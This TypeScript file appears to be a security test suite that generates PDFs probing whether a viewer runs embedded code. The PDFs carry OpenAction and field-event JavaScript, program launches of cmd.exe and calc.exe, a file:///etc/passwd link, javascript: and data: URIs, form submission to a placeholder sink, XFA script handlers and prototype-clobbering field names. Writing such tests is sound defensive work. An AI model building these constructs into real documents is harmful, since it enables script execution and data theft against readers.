import { ofClass } from '../documents/document-case.ts';
import { javascript, pdfText, writePdf } from './write-pdf.ts';

const pdf = { contentType: 'application/pdf' };
const link = (action: string, more = ''): string =>
  `/Annots[<</Type/Annot/Subtype/Link/Rect[60 680 400 730]/A ${action}${more}>>]`;

/** Code that a PDF asks its reader to run. */
export const scripts = ofClass('pdf-scripts', pdf, [
  { id: 'pdf-js-open', title: 'code when the document opens', body: (fill) => writePdf({ words: 'Opening words', catalog: `/OpenAction ${javascript(fill('{{pwn}}'))}` }), harmless: 'Opening words', control: { harm: 'script' } },
  { id: 'pdf-js-names', title: 'code in the tree of names', body: (fill) => writePdf({ words: 'Named words', catalog: `/Names<</JavaScript<</Names[${pdfText('a')} ${javascript(fill('{{pwn}}'))}]>>>>` }), harmless: 'Named words', control: { harm: 'script' } },
  { id: 'pdf-js-document', title: 'code before printing, saving and closing', body: (fill) => writePdf({ words: 'Closing words', catalog: `/AA<</WC ${javascript(fill('{{pwn}}'))}/WS ${javascript(fill('{{pwn}}'))}/DP ${javascript(fill('{{pwn}}'))}>>` }), harmless: 'Closing words', control: { harm: 'script' } },
  { id: 'pdf-js-page', title: 'code when a page is seen', body: (fill) => writePdf({ words: 'Page words', page: `/AA<</O ${javascript(fill('{{pwn}}'))}/C ${javascript(fill('{{pwn}}'))}>>` }), harmless: 'Page words', control: { harm: 'script' } },
  { id: 'pdf-js-field', title: 'code when a field is shown, reckoned and left', body: (fill) => writePdf({ words: 'Field words', catalog: '/AcroForm<</Fields[10 0 R]/CO[10 0 R]>>', page: '/Annots[10 0 R]', objects: [`<</Type/Annot/Subtype/Widget/FT/Tx/T(root)/V(Written value)/Rect[72 600 300 620]/AA<</C ${javascript(fill('{{pwn}}'))}/F ${javascript(fill('{{pwn}}'))}/K ${javascript(fill('{{pwn}}'))}/E ${javascript(fill('{{pwn}}'))}>>>>`] }), harmless: 'Field words', act: [{ hover: 'Field words' }], control: { harm: 'script' } },
]); // prettier-ignore

/** What a PDF asks its reader to open. */
export const openings = ofClass('pdf-openings', pdf, [
  { id: 'pdf-open-uri', title: 'an address when the document opens', body: (fill) => writePdf({ words: 'Address words', catalog: `/OpenAction<</S/URI/URI ${pdfText(fill('{{sink}}/open.html'))}>>` }), harmless: 'Address words', control: { immune: 'pdf.js hands out an opening place, name or code, and no address.' } },
  { id: 'pdf-open-launch', title: 'a program when the document opens', body: (fill) => writePdf({ words: 'Program words', catalog: `/OpenAction<</S/Launch/F ${pdfText(fill('{{sink}}/a.exe'))}/Win<</F(cmd.exe)>>>>` }), harmless: 'Program words', control: { immune: 'pdf.js knows no way to start a program.' } },
  { id: 'pdf-open-submit', title: 'a form sent when the document opens', body: (fill) => writePdf({ words: 'Sending words', catalog: `/OpenAction<</S/SubmitForm/F<</FS/URL/F ${pdfText(fill('{{sink}}/f'))}>>/Flags 4>>` }), harmless: 'Sending words', control: { immune: 'pdf.js knows no way to send a form.' } },
  { id: 'pdf-open-remote', title: 'another file when the document opens', body: (fill) => writePdf({ words: 'Remote words', catalog: `/OpenAction<</S/GoToR/F ${pdfText(fill('{{sink}}/b.pdf'))}/D[0/Fit]/NewWindow true>>` }), harmless: 'Remote words', control: { immune: 'pdf.js opens no other file by itself.' } },
]); // prettier-ignore

/** Links on a page. */
export const pdfLinks = ofClass('pdf-links', pdf, [
  { id: 'pdf-link-javascript', title: 'a link to code in an address', body: (fill) => writePdf({ words: 'Coded link', page: link(`<</S/URI/URI ${pdfText(fill('javascript:{{pwn}}'))}>>`) }), harmless: 'Coded link', act: [{ click: 'Coded link' }], control: { harm: 'script' } },
  { id: 'pdf-link-action', title: 'a link to code', body: (fill) => writePdf({ words: 'Acting link', page: link(javascript(fill('{{pwn}}'))) }), harmless: 'Acting link', act: [{ click: 'Acting link' }], control: { harm: 'script' } },
  { id: 'pdf-link-opening', title: 'a link whose code opens an address', body: (fill) => writePdf({ words: 'Window link', page: link(javascript(fill("app.launchURL('{{sink}}/w.html', true)"))) }), harmless: 'Window link', act: [], control: { harm: 'navigation' } },
  { id: 'pdf-link-file', title: 'a link to a file of the machine', body: () => writePdf({ words: 'Local link', page: link(`<</S/URI/URI ${pdfText('file:///etc/passwd')}>>`) }), harmless: 'Local link', act: [{ click: 'Local link' }], control: { immune: 'Chromium opens no file: address from a page of the web.' } },
  { id: 'pdf-link-data', title: 'a link to a page in its own address', body: (fill) => writePdf({ words: 'Data link', page: link(`<</S/URI/URI ${pdfText(fill('data:text/html,<script>{{pwn}}</script>'))}>>`) }), harmless: 'Data link', act: [{ click: 'Data link' }], control: { immune: 'Chromium opens no data: page from a link.' } },
  { id: 'pdf-link-remote', title: 'a link to another file', body: (fill) => writePdf({ words: 'Remote link', page: link(`<</S/GoToR/F ${pdfText(fill('{{sink}}/x.pdf'))}/D(a)>>`) }), harmless: 'Remote link', act: [], control: { harm: 'navigation' } },
  { id: 'pdf-link-launch', title: 'a link that starts a program', body: () => writePdf({ words: 'Starting link', page: link('<</S/Launch/F(calc.exe)>>') }), harmless: 'Starting link', act: [{ click: 'Starting link' }], control: { harm: 'navigation' } },
]); // prettier-ignore

/** Forms. */
export const forms = ofClass('pdf-forms', pdf, [
  { id: 'pdf-xfa-script', title: 'an XFA form with code and an address', body: (fill) => xfa(fill('<script contentType="application/x-javascript">{{pwn}}</script>'), fill('<image href="{{sink}}/x.gif" contentType="image/gif"/>')), harmless: 'XFA words', control: { harm: 'request' } },
  { id: 'pdf-xfa-html', title: 'an XFA form whose rich text is markup', body: (fill) => xfa('', fill('<exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><p onclick="{{pwn}}">Rich <a href="javascript:{{pwn}}">rich link</a><img src="{{sink}}/r.gif" onerror="{{pwn}}"/></p></body></exData>')), says: /rich link|XFA words/, act: [{ click: 'rich link' }], control: { immune: 'pdf.js makes its own elements of rich text, without handlers and pictures.' } },
  { id: 'pdf-field-globals', title: 'fields named like things that scripts ask for', body: () => writePdf({ words: 'Global fields', catalog: '/AcroForm<</Fields[10 0 R 11 0 R 12 0 R]>>', page: '/Annots[10 0 R 11 0 R 12 0 R]', objects: ['FHIR', 'token', '__proto__'].map((name, at) => `<</Type/Annot/Subtype/Widget/FT/Tx/T(${name})/V(v)/Rect[72 ${600 - 30 * at} 300 ${620 - 30 * at}]/DA(/Helv 12 Tf 0 g)>>`) }), harmless: 'Global fields', control: { harm: 'clobber' } },
  { id: 'pdf-field-submit', title: 'a button that sends what is typed', body: (fill) => writePdf({ words: 'Button words', catalog: '/AcroForm<</Fields[10 0 R]>>', page: '/Annots[10 0 R]', objects: [`<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(send)/Rect[60 680 400 730]/A<</S/SubmitForm/F<</FS/URL/F ${pdfText(fill('{{sink}}/s'))}>>/Flags 4>>>>`] }), harmless: 'Button words', act: [{ click: 'Button words' }], control: { harm: 'field' } },
]); // prettier-ignore

function xfa(script: string, inside: string): Uint8Array {
  const template =
    '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f" layout="tb" locale="en_US">' +
    '<pageSet><pageArea name="p"><contentArea w="500pt" h="700pt"/><medium stock="letter" short="612pt" long="792pt"/></pageArea></pageSet>' +
    `<draw name="d" w="300pt" h="20pt"><value><text>XFA words</text></value></draw><draw name="e" w="300pt" h="40pt"><value>${inside || '<text>x</text>'}</value></draw>` +
    `<field name="token" w="100pt" h="20pt"><ui><textEdit/></ui><event activity="ready" ref="$layout">${script}</event><event activity="initialize">${script}</event></field></subform></template></xdp:xdp>`;
  return writePdf({
    words: 'XFA words',
    catalog: '/AcroForm<</Fields[]/XFA 10 0 R>>/NeedsRendering true',
    objects: [{ entries: '', data: template }],
  });
}
